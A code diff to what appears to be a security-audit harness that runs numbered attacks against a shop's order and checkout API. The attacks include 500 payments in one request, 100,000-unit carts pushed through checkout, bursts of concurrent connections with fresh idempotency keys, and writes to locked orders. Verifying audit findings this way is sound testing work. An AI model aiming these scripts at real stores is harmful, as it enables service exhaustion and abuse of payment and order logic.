@@ -2,7 +2,7 @@ import pg from 'pg';
 import type { Arm, Attack } from './attack.ts';
 import { signed } from './attack.ts';
 
-const payments = Array.from({ length: 500 }, () => ({ payment_method_id: 1 }));
+const payments = (count: number) => Array.from({ length: count }, () => ({ payment_method_id: 1 }));
 const byToken = ({ target }: Arm): string =>
   `/api/orders/${target.order}?order_token=${target.token}`;
 
@@ -14,24 +14,39 @@ async function lockOrder({ target }: Arm): Promise<void> {
   await client.query('SELECT id FROM orders WHERE number = $1 FOR UPDATE', [target.order]);
 }
 
-/** A cart of so many lines of so many units, taken through the checkout as far as it goes. */
-async function checkOut(arm: Arm, lines: number, quantity: number): Promise<void> {
-  const { variantId } = arm.target;
+/** Sends a new cart's body as the customer, and gives its number and token; undefined where it is refused. */
+async function cart(arm: Arm, quantities: readonly number[]) {
+  const items = quantities.map((quantity, place) => ({
+    variant_id: arm.target.variantIds[place],
+    quantity,
+  }));
+  const body = JSON.stringify({ order: { line_items: items } });
+  const made = await arm.ask('POST', '/api/orders', { headers: signed(arm), body });
+  if (made.status !== 201) return undefined;
+  return JSON.parse(made.text) as { readonly number: string; readonly token: string };
+}
+
+/** A cart of lines of so many units, taken through the checkout as far as it goes, and completed. */
+async function checkOut(arm: Arm, quantities: readonly number[]): Promise<void> {
+  const made = await cart(arm, quantities);
+  if (!made) return;
   const headers = signed(arm);
-  const items = Array.from({ length: lines }, () => ({ variant_id: variantId, quantity }));
-  const made = await arm.ask('POST', '/api/orders', {
-    headers,
-    body: JSON.stringify({ order: { line_items: items } }),
-  });
-  if (made.status !== 201) return;
-  const { number } = JSON.parse(made.text) as { readonly number: string };
+  const body = JSON.stringify({ order: { email: 'attacker@shop.example' } });
   for (let step = 0; step < 3; step += 1) {
-    await arm.ask('PUT', `/api/checkouts/${number}`, {
-      headers,
-      body: JSON.stringify({ order: { email: 'attacker@shop.example', line_items: items } }),
-    });
+    await arm.ask('PUT', `/api/checkouts/${made.number}`, { headers, body });
   }
-  await arm.ask('PUT', `/api/orders/${number}/event?e=complete`, { headers });
+  await arm.ask('PUT', `/api/orders/${made.number}/event?e=complete`, { headers });
+}
+
+/** Pays for the customer's order with more payments than are allowed, or a new cart with as many as are. */
+async function pay(arm: Arm, place: number): Promise<void> {
+  const { order, token } = arm.target;
+  const to = place % 2 === 0 ? { number: order, token } : await cart(arm, [1]);
+  if (!to) return;
+  await arm.ask('PUT', `/api/orders/${to.number}?order_token=${to.token}`, {
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify({ order: { payments: payments(place % 2 === 0 ? 500 : 50) } }),
+  });
 }
 
 const long = (length: number, place: number): string =>
@@ -45,18 +60,14 @@ const toldMuch = `mutation ($by: OrderBy!) { updateOrder(by: $by, input: {}) { o
 export const attacksOfWriters: readonly Attack[] = [
   {
     finding: '10',
-    does: '500 payments in one PUT, one after the other, with the token of a cart',
-    strike: (arm) =>
-      arm.crowd(1, () =>
-        arm.ask('PUT', byToken(arm), {
-          headers: { 'content-type': 'application/json' },
-          body: JSON.stringify({ order: { payments } }),
-        }),
-      ),
+    does: '500 payments in one PUT, and the 50 that are allowed to a new cart, one after the other, with the token of each',
+    reaches: 200,
+    strike: (arm) => arm.crowd(1, (place) => pay(arm, place)),
   },
   {
     finding: '14',
     does: '16 connections change an order and ask for 400 in the answer, each with a new Idempotency-Key',
+    reaches: 200,
     carts: 400,
     strike: (arm) =>
       arm.crowd(16, (place) =>
@@ -73,6 +84,7 @@ export const attacksOfWriters: readonly Attack[] = [
     finding: '15',
     does: '12 connections write to an order that another session has locked',
     databases: ['server'],
+    reaches: 503,
     strike: async (arm) => {
       await lockOrder(arm);
       return arm.crowd(12, () =>
@@ -86,14 +98,16 @@ export const attacksOfWriters: readonly Attack[] = [
   {
     finding: '16',
     does: 'carts of 100,000 units, and of 5 times 1,000, through the checkout',
+    reaches: 200,
     strike: (arm) =>
       arm.crowd(1, (place) =>
-        place % 2 === 0 ? checkOut(arm, 1, 100_000) : checkOut(arm, 5, 1_000),
+        checkOut(arm, place % 2 === 0 ? [100_000] : Array<number>(5).fill(1_000)),
       ),
   },
   {
     finding: '18',
     does: '4 connections create orders with the longest instructions, each with a new Idempotency-Key',
+    reaches: 201,
     strike: (arm) =>
       arm.crowd(4, (place) =>
         arm.ask('POST', '/api/orders', {
